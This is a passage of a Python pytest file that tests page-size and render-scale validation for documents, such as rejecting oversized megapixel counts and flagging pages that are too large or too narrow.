    with pytest.raises(ValueError, match="megapixels"):
        render_scale(10, 842 * 100, 640)
    with pytest.raises(ValueError):
        render_scale(0, 842, 640)


@pytest.mark.parametrize(("size", "expected"), [
    (A4, []),
    ((3370, 2384), []),  # A0 landscape
    ((3402, 100), ["rule.document_page_size"]),
    ((842, 168), ["rule.document_page_shape"]),
    ((842, 169), []),
])
def test_check_page_size(size, expected):
    assert [code for code, _, _ in documents.check_page_size(1, *size)] == expected
